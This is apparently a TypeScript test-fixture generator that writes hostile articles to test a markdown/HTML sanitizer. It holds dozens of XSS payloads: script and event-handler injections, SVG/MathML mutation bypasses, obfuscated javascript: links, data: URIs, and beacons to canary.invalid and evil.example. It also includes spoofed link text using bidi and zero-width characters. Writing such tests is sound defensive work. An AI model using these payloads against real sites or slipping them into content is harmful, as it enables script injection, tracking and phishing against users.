/**
 * Hostile articles, in the spirit of markdown-it's and DOMPurify's XSS cases: each payload tries to run
 * script (alert, a canary request) or load something remote. `npm run fixtures:hostile` writes them to
 * test/fixtures/hostile/.
 */
const CANARY = 'https://canary.invalid/hit';
const run = `alert(1);fetch('${CANARY}')`;

const scriptTags = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${CANARY}.js></SCRIPT>`,
  `<script type="module">import '${CANARY}.mjs'</script>`,
  `<<script>script>${run}<</script>/script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
];

const eventHandlers = [
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}"></svg>`,
  `<body onload="${run}">`,
  `<details open ontoggle="${run}">x</details>`,
  `<video><source onerror="${run}"></video>`,
  `<input autofocus onfocus="${run}">`,
  `<iframe onload="${run}"></iframe>`,
  `<div onmouseover="${run}" style="position:fixed;inset:0">hover</div>`,
  `<a href="https://example.com" onclick="${run}">click</a>`,
];

const svgAndMathMl = [
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text x="20" y="20">x</text></a></svg>`,
  `<svg><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  `<math href="javascript:${run}">click</math>`,
  `<svg><foreignObject><iframe src="javascript:${run}"></iframe></foreignObject></svg>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
];

const linkSpellings = [
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt:${run})`,
  `[x](&#106;avascript:${run})`,
  `[x](javascript&#58;${run})`,
  `[x](javascript&colon;${run})`,
  `[x](java\tscript:${run})`,
  `[x](< javascript:${run}>)`,
  `[x](<javascript:${run}>)`,
  `[x](javascript\u2028:${run})`,
  `[x](%6Aavascript:${run})`,
  `[x](vbscript:msgbox(1))`,
  `[x](VBScript:msgbox(1))`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](DATA:text/html,<script>${run}</script>)`,
  `[x](data:image/svg+xml,<svg onload=alert(1)>)`,
  `<javascript:${run}>`,
  `[x][ref]\n\n[ref]: javascript:${run}`,
  `[x](file:///etc/passwd)`,
  `[x](//evil.example/path)`,
  `[x](\\\\evil.example\\share)`,
  `[x](  javascript:${run}  "title")`,
  `<a href="javascript:${run}">raw anchor</a>`,
];

const dangerousHtml = [
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe src="${CANARY}"></iframe>`,
  `<object data="${CANARY}.swf"></object>`,
  `<embed src="${CANARY}.swf">`,
  `<form action="${CANARY}"><input type=submit value=Go><button>Send</button></form>`,
  `<base href="${CANARY}/">`,
  `<link rel=stylesheet href="${CANARY}.css">`,
  `<style>@import url(${CANARY}.css); body{background:url(${CANARY}.png)}</style>`,
  `<meta http-equiv="refresh" content="0;url=${CANARY}">`,
  `<template><img src=x onerror="${run}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<isindex action="javascript:${run}" type=submit>`,
  `<a href="${CANARY}" target="_blank">new window</a>`,
  `<portal src="${CANARY}"></portal>`,
];

const remoteResources = [
  `![pixel](${CANARY}/pixel.gif)`,
  `![pixel](//canary.invalid/pixel.gif)`,
  `<img src="${CANARY}/pixel.gif" width=1 height=1>`,
  `<div style="background:url(${CANARY}/bg.png)">styled</div>`,
  `<audio src="${CANARY}/a.mp3" autoplay></audio>`,
  `<picture><source srcset="${CANARY}/p.webp"><img src="${CANARY}/p.jpg"></picture>`,
];

const deceptiveText = [
  `[pay\u202Emoc.live](https://evil.example/)`,
  `[bank\u200B.example](https://xn--80ak6aa92e.com/)`,
  `By [AFP\u202E](javascript:${run})`,
];

const CATEGORIES: Record<string, string[]> = {
  'script-tags': scriptTags,
  'event-handlers': eventHandlers,
  'svg-mathml': svgAndMathMl,
  'link-spellings': linkSpellings,
  'dangerous-html': dangerousHtml,
  'remote-resources': remoteResources,
  'deceptive-text': deceptiveText,
};

/** One article per payload, the payload placed in the title, a byline, the body and the original URL. */
export function hostileArticles(): Array<{ name: string; text: string }> {
  const articles: Array<{ name: string; text: string }> = [];
  let n = 0;
  for (const [category, payloads] of Object.entries(CATEGORIES)) {
    payloads.forEach((payload, index) => {
      const id = (0xbad000 + n).toString(16).padStart(16, '0');
      const text = [
        `# ${payload.split('\n')[0]}`,
        `By [Hostile Wire](#) and ${payload.split('\n')[0]}`,
        'June 08, 2025',
        `A caption with a payload ${payload.split('\n')[0]} **${payload.split('\n')[0]}**`,
        `A paragraph before the payload.`,
        payload,
        `> ${payload.split('\n')[0]}`,
        `- ${payload.split('\n')[0]}`,
        'Original url:',
        payload.includes('javascript') ? `<javascript:${run}>` : `<${CANARY}>`,
      ].join('\n\n');
      articles.push({ name: `${String(n).padStart(3, '0')}_${id}-${category}-${index}.txt`, text });
      n++;
    });
  }
  return articles;
}
